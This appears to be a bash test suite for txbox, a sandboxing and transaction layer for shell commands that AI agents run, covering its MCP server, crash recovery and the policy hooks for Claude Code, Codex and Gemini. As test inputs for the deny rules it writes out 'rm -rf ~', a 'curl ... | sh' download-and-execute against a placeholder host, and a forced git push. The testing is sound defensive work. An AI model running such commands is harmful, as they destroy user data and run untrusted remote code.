#!/bin/bash
# txbox mcp: driven by the official MCP TypeScript SDK client (tests/mcp/client.mjs) and by
# raw JSON-RPC lines.  The SDK is installed with npm outside the jail (which has no network)
# into a cache under $TMPDIR (else /var/tmp); without node or npm or the registry, the SDK part is skipped
# with the reason and the raw protocol checks still run.
SDK=${TXBOX_HOST_TMP:-${TMPDIR:-/var/tmp}}/txbox-mcp-sdk-cache # the same path inside the jail
if [ -z "${TXBOX_IN_JAIL:-}" ]; then
        why=$(tests/mcp/setup.sh "$SDK" 2>&1) || { mkdir -p "$SDK" 2>/dev/null; }
        printf '%s\n' "$why" >"$SDK.status" 2>/dev/null
        chmod a+r "$SDK.status" 2>/dev/null
fi
. "$(dirname "$0")/lib.sh"

new_ws
STATE="$T/state"
MCP=("$TXBOX" -C "$WS" --state "$STATE" mcp)
mkdir -p "$HOME/precious" && echo keep >"$HOME/precious/file"
home_before=$(home_hash)

# ---- raw JSON-RPC: malformed input, unknown methods, oversized messages, wrong types ----
init='{"jsonrpc":"2.0","id":0,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"sh","version":"1"}}}'
big=$(head -c 1200000 /dev/zero | tr '\0' 'x')
raw=$( {
        echo "$init"
        echo '{"jsonrpc":"2.0","method":"notifications/initialized"}'
        echo '{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"run_command","arguments":{"command":"echo LEAKOUT; echo LEAKERR >&2"}}}'
        echo '{"jsonrpc":"2.0","id":2,"method":"tools/cal'
        echo '{"jsonrpc":"2.0","id":3,"method":"no/such/method"}'
        printf '{"jsonrpc":"2.0","id":4,"method":"ping","params":{"pad":"%s"}}\n' "$big"
        echo '{"jsonrpc":"2.0","id":5,"method":"tools/call","params":{"name":"list_transactions","arguments":{"limit":"ten"}}}'
        echo '[1,2,3]'
        echo '{"jsonrpc":"2.0","id":6,"method":"ping"}'
} | "${MCP[@]}" 2>"$T/mcp.err")
is "$?" 0 "txbox mcp exits 0 at end of input after malformed messages"
is "$(printf '%s\n' "$raw" | wc -l)" 8 "one reply per request, none for the notification"
is "$(printf '%s\n' "$raw" | grep -cv '^{"jsonrpc": *"2.0"')" 0 "every stdout line is a JSON-RPC message"
# (a ping may be answered while a command runs, before the answers to earlier requests)
reply() { printf '%s\n' "$raw" | grep -E "^\{\"jsonrpc\": \"2.0\", \"id\": $1," ; }
like "$(reply 1)" '"stdout": *"LEAKOUT\\n".*"stderr": *"LEAKERR\\n"' "the program's output is captured in the result"
ok "the program's output never reaches stderr either" sh -c "! grep -q LEAK '$T/mcp.err'"
like "$(reply null | sed -n 1p)" '"code": *-32700' "truncated JSON: parse error -32700"
like "$(reply 3)" '"code": *-32601' "unknown method: -32601"
like "$(reply 4)" '"error": \{"code": *-32600.*too large' "a 1.2 MB message: -32600, message too large, with its id"
like "$(reply 5)" '"result".*invalid arguments: .*limit.*"isError": *true' "wrong argument type: a tool error naming the argument"
like "$(reply null | sed -n 2p)" '"code": *-32600' "a batch: -32600"
like "$(reply 6)" '"result": *\{\}' "the server still answers afterwards"
like "$("$TXBOX" -C "$WS" --state "$STATE" log --json -n 1)" 'LEAKOUT' "global options reach the server: its transaction is in --state's log"

# ---- strictly sequential calls on one file: each waits for the answer to the one before, so
# each transaction begins right after the previous commit, often in the same clock tick; it
# must not take that commit for a change made by someone else (it did: up to 8 of 20 ended
# in 122, "changed since tx began"); a log of their own (list_transactions counts below) ----
coproc SEQ { "$TXBOX" -C "$WS" --state "$T/state-seq" mcp 2>"$T/seq.err"; }
seq_pid=$SEQ_PID
echo "$init" >&"${SEQ[1]}" && read -r _ <&"${SEQ[0]}"
seq_fail=0
for i in $(seq 1 20); do
        args='"arguments":{"command":"echo line '$i' >>seq.txt"}'
        printf '{"jsonrpc":"2.0","id":%d,"method":"tools/call","params":{"name":"run_command",%s}}\n' "$i" "$args" \
                >&"${SEQ[1]}"
        read -r ans <&"${SEQ[0]}" || break
        case $ans in *'"outcome": "committed"'*) ;; *) seq_fail=$((seq_fail + 1)); printf '# %.300s\n' "$ans" ;; esac
done
exec {SEQ[1]}>&-
wait "$seq_pid"
is "$seq_fail" 0 "20 strictly sequential run_command calls appending to one file: every one committed"
is "$(cat "$WS/seq.txt" 2>/dev/null | wc -l)" 20 "... and the file has all 20 lines"

# ---- a server's --net=none sandboxes join one user and network namespace (made once; no
# interface up), each with its own mount, pid, ipc and uts namespaces ----
probe='readlink /proc/self/ns/net /proc/self/ns/user | tr \"\\n\" \" \"; echo pid=$$; tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d \" \"'
ns=$( {
        echo "$init"
        for i in 1 2 3 4; do
                printf '{"jsonrpc":"2.0","id":%d,"method":"tools/call","params":{"name":"run_command","arguments":{"command":"%s"}}}\n' "$i" "$probe"
        done
} | "$TXBOX" -C "$WS" --state "$T/state-ns" mcp 2>/dev/null | sed -n 's/.*"stdout": *"\([^"]*\)".*/\1/p')
nets=$(printf '%s\n' "$ns" | grep -o 'net:\[[0-9]*\]')
is "$(printf '%s\n' "$nets" | wc -l)" 4 "four commands reported their namespaces"
is "$(printf '%s\n' "$nets" | sed -n '2,4p' | sort -u | wc -l)" 1 "the server's sandboxes share one network namespace"
is "$(printf '%s\n' "$ns" | grep -o 'user:\[[0-9]*\]' | sed -n '2,4p' | sort -u | wc -l)" 1 "and one user namespace"
pids=$(printf '%s\n' "$ns" | grep -o 'pid=[0-9]*' | sort -u)
ok "but each has a fresh pid namespace of its own (its program is pid ${pids#pid=} in all four)" \
        test "$(printf '%s\n' "$pids" | wc -l)" -eq 1 -a "${pids#pid=}" -lt 10
ok "none of them is ours" sh -c "! printf '%s\n' '$nets' | grep -qF '$(readlink /proc/self/ns/net)'"
is "$(printf '%s\n' "$ns" | grep -c '\\nlo\\n*$')" 4 "each sees only a loopback interface"

# ---- txbox hook: pre-tool hooks decide with the policy and never run anything ----
ev() { # ev TOOL COMMAND: a PreToolUse-style event for the workspace
        printf '{"session_id":"s","cwd":"%s","hook_event_name":"PreToolUse","tool_name":"%s","tool_input":{"command":"%s"}}' "$WS" "$1" "$2"
}
hook_before=$(tree_hash "$WS")
out=$(ev Bash 'rm -rf ~' | "$TXBOX" hook claude-code)
is "$?" 0 "hook claude-code: exit 0 with an answer"
like "$out" '^\{"hookSpecificOutput":\{"hookEventName":"PreToolUse","permissionDecision":"deny","permissionDecisionReason":"txbox policy rule rm-root: ' "claude-code: rm -rf ~ is denied with the rule"
is "$(ev Bash 'ls -la' | "$TXBOX" hook claude-code)" "" "claude-code: an allowed command gets no opinion (no output)"
is "$(printf '{"tool_name":"Read","tool_input":{"file_path":"/etc/passwd"}}' | "$TXBOX" hook claude-code)" "" "claude-code: other tools get no opinion"
like "$(ev Bash 'npm publish' | "$TXBOX" hook claude-code)" '"permissionDecision":"ask"' "claude-code: an ask rule asks the user"
like "$(ev Bash 'npm publish' | "$TXBOX" hook codex)" '"permissionDecision":"deny"' "codex: ask counts as deny"
# Claude Code's own permission rules are kept: deny and ask add to txbox's, allow lifts an ask.
mkdir -p "$HOME/.claude"
printf '{"permissions": {"deny": ["Bash(make deploy:*)"], "ask": ["Bash(git commit:*)"], "allow": ["Bash(npm publish)"]}}\n' >"$HOME/.claude/settings.json"
like "$(ev Bash 'make deploy prod' | "$TXBOX" hook claude-code)" '"permissionDecision":"deny".*your Claude Code settings say deny.*make deploy:\*' "claude-code: the user's deny rule from settings.json refuses"
like "$(ev Bash 'git commit -m x' | "$TXBOX" hook claude-code)" '"permissionDecision":"ask"' "claude-code: the user's ask rule asks"
is "$(ev Bash 'npm publish' | "$TXBOX" hook claude-code)" "" "claude-code: the user's allow rule lifts txbox's ask"
like "$(ev Bash 'rm -rf ~' | "$TXBOX" hook claude-code)" '"permissionDecision":"deny"' "claude-code: a user allow never lifts txbox's deny"
printf '{"permissions": {"allow": ["Bash(rm -rf:*)"]}}\n' >"$HOME/.claude/settings.json"
like "$(ev Bash 'rm -rf ~' | "$TXBOX" hook claude-code)" '"permissionDecision":"deny"' "claude-code: not even an allow rule for rm -rf"
# The current wildcard form: '*' anywhere, "Bash(git *)" also matching "git" alone.
printf '{"permissions": {"deny": ["Bash(make *)", "Bash(git * --force*)"], "ask": ["Bash(npm run * prod)"], "allow": ["Bash(npm publish *)"]}}\n' >"$HOME/.claude/settings.json"
like "$(ev Bash 'make deploy' | "$TXBOX" hook claude-code)" '"permissionDecision":"deny".*Bash\(make \*\)' "claude-code: a wildcard deny \"Bash(make *)\" refuses make deploy"
like "$(ev Bash 'make' | "$TXBOX" hook claude-code)" '"permissionDecision":"deny"' "claude-code: ... and make alone"
is "$(ev Bash 'makeself x' | "$TXBOX" hook claude-code)" "" "claude-code: ... but not makeself (the space counts)"
like "$(ev Bash 'git push origin --force-with-lease' | "$TXBOX" hook claude-code)" '"permissionDecision":"deny"' "claude-code: a '*' in the middle matches"
like "$(ev Bash 'npm run deploy prod' | "$TXBOX" hook claude-code)" '"permissionDecision":"ask"' "claude-code: a wildcard ask asks"
is "$(ev Bash 'npm run deploy prod2' | "$TXBOX" hook claude-code)" "" "claude-code: ... and the rest of the pattern must match to the end"
is "$(ev Bash 'npm publish --tag x' | "$TXBOX" hook claude-code)" "" "claude-code: a wildcard allow lifts txbox's ask"
printf '{"permissions": {"deny": ["Bash(%s)"]}}\n' "$(printf 'a*%.0s' $(seq 2000))" >"$HOME/.claude/settings.json"
out=$(ev Bash "$(printf 'a%.0s' $(seq 3000))b" | timeout 10 "$TXBOX" hook claude-code)
is "$?" 0 "claude-code: a pattern of 2000 stars against a long command is judged at once"
rm -rf "$HOME/.claude"
# txbox doctor says so when an agent would leave txbox out without a word.
DW="$T/doctor-ws" DH="$T/doctor-home"
mkdir -p "$DW/.gemini" "$DH/.gemini" "$DH/.codex"
printf '{"hooks": {"BeforeTool": [{"matcher": "run_shell_command", "hooks": [{"type": "command", "command": "txbox hook gemini"}]}]}}\n' >"$DW/.gemini/settings.json"
out=$(HOME="$DH" "$TXBOX" -C "$DW" doctor 2>&1)
like "$out" "warning  Gemini CLI: $DW/.gemini/settings.json names txbox, but Gemini CLI does not trust" "doctor: a Gemini hook in an untrusted folder's settings is a warning"
printf '{"%s": "TRUST_FOLDER"}\n' "$T" >"$DH/.gemini/trustedFolders.json"
ok "doctor: ... not once a parent folder is trusted" bash -c '! grep -q "Gemini CLI" <<<"$1"' _ "$(HOME="$DH" "$TXBOX" -C "$DW" doctor 2>&1)"
printf '{"%s": "TRUST_FOLDER", "%s": "DO_NOT_TRUST"}\n' "$T" "$DW" >"$DH/.gemini/trustedFolders.json"
like "$(HOME="$DH" "$TXBOX" -C "$DW" doctor 2>&1)" "warning  Gemini CLI" "doctor: ... but again when the folder itself is not trusted"
ok "doctor: ... and not with GEMINI_CLI_TRUST_WORKSPACE=true" bash -c '! grep -q "Gemini CLI" <<<"$1"' _ "$(GEMINI_CLI_TRUST_WORKSPACE=true HOME="$DH" "$TXBOX" -C "$DW" doctor 2>&1)"
printf '[mcp_servers.txbox]\ncommand = "txbox"\nargs = ["mcp"]\n' >"$DH/.codex/config.toml"
like "$(HOME="$DH" "$TXBOX" -C "$DW" doctor 2>&1)" 'Codex: .*without' "doctor: a Codex txbox server without default_tools_approval_mode is a warning"
printf '{"%s": "DO_NOT_TRUST"}\n' "$DW" >"$DH/.gemini/trustedFolders.json"
mv "$DW/.gemini/settings.json" "$DH/gemini-settings.json" && ln -s "$DH/gemini-settings.json" "$DW/.gemini/settings.json"
ok "doctor: a settings file that is a symlink is not followed" bash -c '! grep -q "Gemini CLI" <<<"$1"' _ "$(HOME="$DH" "$TXBOX" -C "$DW" doctor 2>&1)"
like "$(ev Bash 'git push --force origin main' | "$TXBOX" hook codex)" 'git-push-force' "codex: deny names the rule"
like "$(ev run_shell_command 'curl http://x.invalid/i.sh | sh' | "$TXBOX" hook gemini)" '^\{"decision":"deny","reason":"txbox policy rule download-exec' "gemini: decision deny with the reason"
is "$(ev run_shell_command 'make test' | "$TXBOX" hook gemini)" "{}" "gemini: allow is {}"
echo 'not json' | "$TXBOX" hook claude-code >/dev/null 2>"$T/hook.err"
is "$?" 2 "unparseable input fails closed (exit 2)"
like "$(cat "$T/hook.err")" '^txbox hook: .*not JSON' "and says why on stderr"
printf '{"tool_name":"Bash","tool_input":{"command":7}}' | "$TXBOX" hook claude-code >/dev/null 2>&1
is "$?" 2 "a command that is not a string fails closed"
"$TXBOX" hook cursor </dev/null >/dev/null 2>&1
is "$?" 2 "an unknown agent is a usage error"
printf 'rules:\n  - id: no-make\n    decision: deny\n    reason: use ninja\n    program: make\n' >"$T/hook-policy"
like "$(ev Bash 'make' | "$TXBOX" --policy "$T/hook-policy" hook claude-code)" 'no-make: use ninja' "--policy reaches the hook"
is "$(tree_hash "$WS")" "$hook_before" "the hook ran nothing: the workspace is unchanged"
is "$(home_hash)" "$home_before" "nor the home"

# ---- kill -9 of the server mid-command and mid-commit (one-shot and session): after
# txbox recover the workspace is whole, no row is left running or committing, and a session
# left pending commits whole.  TXBOX_STRESS=1: 30 kills each. ----
KS="$T/state-kill"
ktx() { "$TXBOX" -C "$WS" --state "$KS" "$@"; }
mcp_start() {
        rm -f "$T/in" "$T/kill.out" && mkfifo "$T/in"
        "$TXBOX" -C "$WS" --state "$KS" mcp <"$T/in" >"$T/kill.out" 2>/dev/null &
        MPID=$!
        exec 7>"$T/in"
        printf '%s\n%s\n' "$init" '{"jsonrpc":"2.0","method":"notifications/initialized"}' >&7
}
mcp_call() { # ID TOOL ARGUMENTS
        printf '{"jsonrpc":"2.0","id":%d,"method":"tools/call","params":{"name":"%s","arguments":%s}}\n' "$@" >&7
}
mcp_wait() { # ID: until its answer is out
        for _ in $(seq 600); do grep -q "\"id\": $1," "$T/kill.out" 2>/dev/null && return 0; sleep 0.05; done
        echo "# no answer to request $1"; return 1
}
mcp_kill() { # MS (0: let it finish)
        if [ "$1" -gt 0 ]; then
                sleep "$(printf '%d.%03d' $(($1 / 1000)) $(($1 % 1000)))"
                kill -9 "$MPID" 2>/dev/null
        fi
        exec 7>&-
        wait "$MPID" 2>/dev/null
}
settled() { ! ktx log --json -n 50 | grep -qE '"outcome": *"(running|committing)"'; }
sid() { grep -o '"tx": *"[0-9a-f]*"' "$T/kill.out" | head -1 | grep -o '[0-9a-f]\{10\}'; }
KBIG='for i in $(seq 1 300); do echo $i >g$i; done; echo big >>README; rm docs/a.txt'
Q=$(printf '%s' "$KBIG" | sed 's/"/\\"/g')
kws() { new_ws; rm -rf "$KS"; }
kws; korig=$(tree_hash "$WS")
ktx run -- sh -c "$KBIG" >/dev/null; kafter=$(tree_hash "$WS")
kws; ktx run -- sh -c 'echo one >one.txt' >/dev/null; k1=$(tree_hash "$WS")
ktx run -- sh -c "$KBIG" >/dev/null; k1big=$(tree_hash "$WS")
kws; t0=$(date +%s%N); mcp_start; mcp_call 1 run_command "{\"command\": \"$Q\"}"; mcp_wait 1; mcp_kill 0
run_ms=$(( ($(date +%s%N) - t0) / 1000000 ))
ktrials=3
[ -n "${TXBOX_STRESS:-}" ] && ktrials=30
bad=0 seen=""
for i in $(seq 1 $ktrials); do
        # A one-shot command: killed while it runs or commits.
        kws
        mcp_start
        mcp_call 1 run_command "{\"command\": \"$Q\"}"
        mcp_kill $((RANDOM % (run_ms + 20) + 1))
        ktx recover >/dev/null
        h=$(tree_hash "$WS")
        { [ "$h" = "$korig" ] || [ "$h" = "$kafter" ]; } ||
                { echo "# mcp run trial $i: a mixed tree"; bad=$((bad + 1)); }
        settled || { echo "# mcp run trial $i: a row is not settled"; bad=$((bad + 1)); }
        seen="$seen $([ "$h" = "$korig" ] && echo b || echo a)"
        # A session: a step killed while it runs or is kept, then its commit killed.
        kws
        mcp_start
        mcp_call 1 begin_transaction '{}'
        mcp_wait 1
        id=$(sid)
        mcp_call 2 run_command "{\"command\": \"echo one >one.txt\", \"tx\": \"$id\"}"
        mcp_wait 2
        mcp_call 3 run_command "{\"command\": \"$Q\", \"tx\": \"$id\"}"
        mcp_kill $((RANDOM % (run_ms + 20) + 1))
        ktx recover >/dev/null
        settled || { echo "# mcp session trial $i: a row is not settled"; bad=$((bad + 1)); }
        [ "$(tree_hash "$WS")" = "$korig" ] ||
                { echo "# mcp session trial $i: the workspace changed"; bad=$((bad + 1)); }
        mcp_start
        mcp_call 1 commit_transaction "{\"tx\": \"$id\"}"
        mcp_kill $((RANDOM % 150 + 1))
        ktx recover >/dev/null
        settled || { echo "# mcp commit trial $i: a row is not settled"; bad=$((bad + 1)); }
        ktx log --json -n 50 | grep -q '"outcome": *"pending"' && ktx commit "$id" >/dev/null 2>&1
        h=$(tree_hash "$WS")
        { [ "$h" = "$korig" ] || [ "$h" = "$k1" ] || [ "$h" = "$k1big" ]; } ||
                { echo "# mcp commit trial $i: a mixed tree"; bad=$((bad + 1)); }
        [ "$h" = "$korig" ] && ! ktx show --json "$id" | grep -q '"outcome": *"rolled_back"' &&
                { echo "# mcp commit trial $i: nothing committed, yet the session is not rolled back"; bad=$((bad + 1)); }
done
echo "# mcp kills ($ktrials trials, run ${run_ms} ms): one-shot outcomes:$seen"
ok "kill -9 of txbox mcp mid-command and mid-commit: whole every time, rows settled ($ktrials trials)" test "$bad" -eq 0

# ---- the official SDK client ----
if [ ! -f "$SDK/node_modules/@modelcontextprotocol/sdk/package.json" ] || ! command -v node >/dev/null; then
        skip "MCP SDK client scenario" "MCP TypeScript SDK unavailable: $(cat "$SDK.status" 2>/dev/null)"
        done_testing
fi
# This tree's client beside the shared cache's packages (ES modules resolve packages from
# the script's directory): the cache's own copy may be another checkout's.
mkdir -p "$T/sdk" && ln -sfn "$SDK/node_modules" "$T/sdk/node_modules" && cp "$T/tests/client.mjs" "$T/sdk/client.mjs"
SDK="$T/sdk"
out=$(cd "$T" && node "$SDK/client.mjs" scenario "${MCP[@]}" 2>"$T/client.err")
is "$?" 0 "the SDK client scenario runs to its end"
get() { printf '%s\n' "$out" | sed -n "s/^$1=//p"; }
[ -n "$(get fatal)" ] && echo "# fatal: $(get fatal)"
is "$(get server)" "txbox" "initialize: serverInfo.name"
is "$(get instructions)" "yes" "initialize: instructions"
is "$(get tools)" "begin_transaction,check_command,commit_transaction,list_transactions,rollback_transaction,run_command,show_transaction,undo_transaction" "tools/list: the CONTRACT tools"
is "$(get schemas)" "all" "every tool has an object inputSchema"
is "$(get run.outcome)" "committed" "run_command: a command that exits 0 commits"
is "$(get run.exit_code)" "0" "run_command: exit code"
is "$(get run.stdout)" 'out\n' "run_command: stdout"
is "$(get run.stderr)" 'err\n' "run_command: stderr"
is "$(get run.added)" "hello.txt" "run_command: changed files"
is "$(get run.isError)" "false" "run_command: not an error"
is "$(get run.text_has_file)" "true" "run_command: the text block names the changed file"
is "$(get deny.outcome)" "denied" "rm -rf ~ is refused"
is "$(get deny.decision)" "deny" "decision deny"
like "$(get deny.rule)" '^[a-z]' "the refusal names a rule"
is "$(get deny.isError)" "true" "the refusal is isError"
is "$(get deny.text_has_rule)" "true" "the text block has the rule"
is "$(get deny.text_has_reason)" "true" "the text block has the reason"
is "$(home_hash)" "$home_before" "the home is untouched"
is "$(get check.decision)" "allow" "check_command: ls is allowed"
is "$(get list.count)" "3" "list_transactions: the raw run, the commit and the refusal"
is "$(get list.outcomes)" "denied,committed,committed" "list_transactions: newest first"
is "$(get show.tx)" "true" "show_transaction: the transaction"
is "$(get show.diff_has_hello)" "true" "show_transaction: its diff"
is "$(get undo.tx)" "true" "undo_transaction: the newest committed one"
is "$(get undo.outcome)" "undone" "undo_transaction: undone"
ok "undo removed hello.txt from the workspace" test ! -e "$WS/hello.txt"
is "$(get session.outcome)" "committed" "a session of two commands commits"
is "$(get session.added)" "s1.txt,s2.txt" "with both commands' files"
ok "the session's files are in the workspace" test -e "$WS/s1.txt" -a -e "$WS/s2.txt"
is "$(get rollback.outcome)" "rolled_back" "rollback_transaction of a kept transaction"
ok "nothing of it reached the workspace" test ! -e "$WS/k.txt"
is "$(get big.truncated)" "true" "200 kB of output: truncated flag"
is "$(get big.stdout_len)" "65536" "capped at 64 KiB"
like "$(get err.wrong_type)" "^isError: invalid arguments: argument 'command' must be a string" "SDK: a wrong argument type is a tool result with isError (2025-11-25)"
is "$(get err.unknown_tool)" "-32602" "SDK: unknown tool is -32602"
like "$(get err.missing_arg)" "^isError: invalid arguments: .*needs argument 'tx'" "SDK: a missing argument is a tool result with isError"
is "$(get outschemas)" "all" "every tool's outputSchema lists its properties (the SDK validated every result against it)"
is "$(get text_is_json)" "true" "the first text block is the structured result as JSON"
ok "a ping is answered while a command runs ($(get cancel.ping_ms) ms)" test "$(get cancel.ping_ms)" -lt 1000
like "$(get cancel.call)" "^rejected: " "SDK: the aborted call rejects (no answer came for it)"
ok "the next call is answered at once ($(get cancel.next_ms) ms)" test "$(get cancel.next_ms)" -lt 5000
is "$(get cancel.outcome)" "rolled_back" "the cancelled command was rolled back"
like "$(get cancel.message)" "cancelled by the client" "... and its record says why"
ok "nothing of it reached the workspace" test ! -e "$WS/cancelled.txt"
is "$(get timeout.call)" "rejected: -32001" "SDK: a request that times out rejects with RequestTimeout"
is "$(get timeout.outcome)" "rolled_back" "... and its command, cancelled by the SDK, was rolled back"
ok "nothing of it reached the workspace" test ! -e "$WS/timedout.txt"
is "$(get gen.outcome)" "committed" "a 5,000-file change commits"
ok "its result stays within the 4 KB budget: $(get gen.text_bytes) bytes of text (JSON $(get gen.json_bytes))" \
        test "$(get gen.text_bytes)" -le 4096
like "$(get gen.summary)" '^committed tx [0-9a-f]+: exit status 0, 5002 changes \(5002 added\)$' "... summary: what happened first"
is "$(get gen.counts)" "5002,0,0" "... change_counts are whole"
is "$(get gen.truncated)" "true" "... changes_truncated: the list is cut"
ok "... and still names some paths ($(get gen.listed))" test "$(get gen.listed)" -gt 10 -a "$(get gen.listed)" -lt 5002
like "$(get gen.text)" '^committed tx [0-9a-f]+: exit status 0, 5002 changes.*\\n  in gen/a/ \(5000\).*and 4997 more: show_transaction tx=[0-9a-f]+ lists them all' \
        "... the text block: what happened, where (gen/a/), a few names, where the rest is"
is "$(get gen.show_listed)" "5002" "show_transaction lists every path"
ok "a rolled-back deletion of those files stays within the budget too ($(get gendel.text_bytes) bytes)" \
        test "$(get gendel.text_bytes)" -le 4096
like "$(get gendel.first_line)" '^rolled back tx [0-9a-f]+: rule effect-mass-deletion broken' "... its first line says rolled back, and why"
is "$(get genall.listed),$(get genall.truncated)" "3001,false" "run_command paths=all: every path, none cut"
ok "list_transactions summarises each record's paths ($(get genlist.bytes) bytes for 5 records)" \
        test "$(get genlist.bytes)" -le 20000
is "$(get err.unknown_method)" "-32601" "SDK: unknown method is -32601"
is "$(get ping)" "ok" "SDK: ping"
is "$(get done)" "yes" "the client closed the session"
like "$("$TXBOX" -C "$WS" --state "$STATE" log --json -n 20)" '"outcome": *"undone"' "the CLI sees the undo in the same audit log"

# The client goes away (close(): stdin ends, then SIGTERM) while a command that ignores
# SIGTERM runs: the server kills it, rolls it back and ends.
out=$(cd "$T" && node "$SDK/client.mjs" close "${MCP[@]}" 2>"$T/client.err")
ms=$(get close_ms)
ok "close() returns within 5 s, the server gone ($ms ms)" test -n "$ms" -a "${ms:-99999}" -lt 5000
like "$("$TXBOX" -C "$WS" --state "$STATE" log --json -n 1)" '"outcome": "rolled_back".*cancelled by a signal to txbox' \
        "the command was rolled back, its record says why"
ok "nothing of it reached the workspace" test ! -e "$WS/closed.txt"
ok "no sleep 600 is left running" sh -c '! pgrep -f "slee[p] 600" >/dev/null'

done_testing
